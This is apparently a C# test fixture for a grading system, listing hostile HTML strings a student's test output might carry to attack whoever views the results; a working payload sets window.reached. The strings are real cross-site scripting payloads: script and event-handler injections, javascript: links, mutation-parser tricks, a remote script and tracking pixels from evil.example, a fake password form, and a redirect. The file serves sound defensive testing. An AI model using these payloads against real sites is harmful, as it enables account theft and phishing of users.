namespace Grader.Tests.Worker.Showing;

/// <summary>What a student could have their tests print, to reach whoever looks at the results. Where one of them works, it sets <c>window.reached</c>.</summary>
internal static class Hostile
{
    public static string[] Html { get; } =
    [
        "<script>window.reached=1</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>window.reached=1</scr</script>ipt>",
        "<img src=x onerror=window.reached=1>",
        "<img src=x onerror\n=\nwindow.reached=1 ",
        "<b onclick=\"window.reached=1\" onmouseover='window.reached=1'>x</b>",
        "<svg onload=window.reached=1></svg>",
        "<svg><script>window.reached=1</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.reached=1>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.reached=1>\">",
        "<iframe src=javascript:window.top.reached=1></iframe>",
        "<iframe srcdoc=\"<script>top.reached=1</script>\"></iframe>",
        "<object data=javascript:window.reached=1></object><embed src=javascript:window.reached=1>",
        "<a href=javascript:window.reached=1>x</a>",
        "<a href=\" &#x6A;ava\tscript:window.reached=1\">x</a>",
        "<a href=\"data:text/html,<script>window.reached=1</script>\">x</a>",
        "<a href=vbscript:window.reached=1>x</a>",
        "<img src=https://evil.example/pixel.png srcset=https://evil.example/pixel.png>",
        "<img src=//evil.example/pixel.png><img src=pixel.png>",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.reached=1'/>\">",
        "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x.png)\">Full marks</p>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:window.reached=1>Sign in</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=https://evil.example/>",
        "</div></section></main></body></html><script>window.reached=1</script>",
        "<!--><img src=x onerror=window.reached=1>-->",
        "<details open ontoggle=window.reached=1>x</details><video><source onerror=window.reached=1></video>",
        "[x](javascript:window.reached=1) ![x](https://evil.example/pixel.png) <javascript:window.reached=1>",
    ];
}
